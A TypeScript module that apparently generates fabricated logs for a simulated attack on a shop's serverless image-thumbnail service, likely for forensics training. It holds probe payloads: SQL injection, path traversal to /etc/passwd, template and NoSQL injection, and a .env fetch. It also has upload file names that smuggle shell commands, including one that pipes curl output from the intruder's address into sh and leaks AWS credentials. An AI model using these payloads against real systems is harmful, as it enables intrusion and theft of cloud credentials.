import { attacks, minute, second } from './calendar.ts'
import { addresses } from './cast.ts'
import { type Chance, chance } from './chance.ts'
import type { Context, Invocation } from './invocations.ts'
import type { Said } from './logs.ts'
import { thumbnailCalls } from './objects.ts'
import { api, order, uploadAddress } from './traffic.ts'

/** The intruder's requests to the shop: feeling for a weak spot, then a picture whose name is a command, then an order to wake the writer. */
export function intrusion(): readonly Invocation[] {
  const draw = chance('intrusion')
  return [
    ...probes.map((probe, place) => ({ ...asked(draw, attacks + place * 151 * second, probe), tag: 'recon' })),
    ...pictures.flatMap(({ after, name, said }) => picture(draw, attacks + after * minute, `incoming/${name}`, said)),
    ...order(draw, attacks + 63 * minute + 12 * second, addresses.intruder).map((one) => ({ ...one, tag: 'order' })),
  ]
}

const unread = (body: string, token: string) => ({
  error: `SyntaxError: Unexpected token '${token}', "${body}" is not valid JSON`,
  stack: [
    'at JSON.parse (<anonymous>)',
    'at body (file:///var/task/index.mjs:41:18)',
    'at handler (file:///var/task/index.mjs:17:24)',
  ],
})

const probes: readonly object[] = [
  { method: 'GET', path: "/orders/PK-1'%20OR%20'1'='1", status: 404 },
  { method: 'GET', path: '/products/..%2f..%2f..%2fetc%2fpasswd', status: 404 },
  { method: 'POST', path: '/orders', status: 400, ...unread("{'sku':1}", "'") },
  { method: 'POST', path: '/orders', status: 400, ...unread('<?xml version="1.0"?>', '<') },
  { method: 'POST', path: '/orders', status: 400, ...unread('{{7*7}}', '{') },
  { method: 'GET', path: '/.env', status: 404 },
  { method: 'POST', path: '/orders', status: 422, error: 'order refused: sku is not a string', sku: { $ne: null } },
  { method: 'POST', path: '/uploads', status: 422, error: 'upload refused: no name' },
]

function asked(draw: Chance, time: number, probe: object): Invocation {
  return api(draw, time, { ...probe, ip: addresses.intruder }, 'error' in probe ? 'ERROR' : 'WARN')
}

interface Picture {
  readonly after: number
  readonly name: string
  readonly said: (context: Context, command: string) => readonly Said[]
}

/** Three names: one that only breaks the shell, one that asks who it is, one that fetches a script which prints what it can read. */
const pictures: readonly Picture[] = [
  {
    after: 31,
    name: "kite'id.png",
    said: (_, command) => [
      {
        after: 240,
        level: 'ERROR',
        message: `no thumbnail: Error: Command failed: ${command}\n/opt/bin/sh: 1: Syntax error: Unterminated quoted string\n\n    at genericNodeError (node:internal/errors:983:15)\n    at ChildProcess.exithandler (node:child_process:414:12)\n    at resize (file:///var/task/index.mjs:22:9) {\n  code: 2,\n  killed: false,\n  signal: null\n}`,
      },
    ],
  },
  {
    after: 34,
    name: 'kite;id #.png',
    said: (_, command) => [
      {
        after: 260,
        level: 'WARN',
        message: `convert said: convert: no images defined \`/tmp/small'. uid=993(sbx_user1051) gid=990 groups=990`,
      },
      { after: 264, level: 'ERROR', message: `no thumbnail: Error: nothing written by ${command}` },
    ],
  },
  {
    after: 38,
    name: `kite;curl -s ${addresses.intruder}|sh #.png`,
    said: ({ environment }, command) => [
      { after: 612, level: 'WARN', message: `convert said: ${surroundings(environment)}` },
      { after: 618, level: 'ERROR', message: `no thumbnail: Error: nothing written by ${command}` },
    ],
  },
]

function picture(draw: Chance, time: number, key: string, said: Picture['said']): readonly Invocation[] {
  return [
    { ...uploadAddress(draw, time, key, addresses.intruder), tag: 'upload' },
    {
      function: 'thumbnails',
      time: time + 4 * second,
      duration: draw.int(70_000, 90_000) / 100,
      used: 171,
      said: (context) => [
        { after: 12, level: 'INFO', message: `thumbnail of ${key}` },
        ...said(context, `convert /tmp/picture -resize 320x320 /tmp/small/${key.slice('incoming/'.length)}`),
      ],
      calls: (context) => thumbnailCalls(context, key, 1_204, false),
      tag: 'injection',
    },
  ]
}

/** What `env` prints inside a function, its credentials among it. */
function surroundings({ credentials, secret, token, function: name, stream }: Context['environment']): string {
  return [
    `AWS_LAMBDA_FUNCTION_NAME=${name}`,
    `AWS_LAMBDA_LOG_STREAM_NAME=${stream}`,
    `AWS_ACCESS_KEY_ID=${credentials.key}`,
    `AWS_SECRET_ACCESS_KEY=${secret}`,
    `AWS_SESSION_TOKEN=${token}`,
    'AWS_REGION=eu-west-1',
    'AWS_EXECUTION_ENV=AWS_Lambda_nodejs22.x',
    'LAMBDA_TASK_ROOT=/var/task',
  ].join(' ')
}
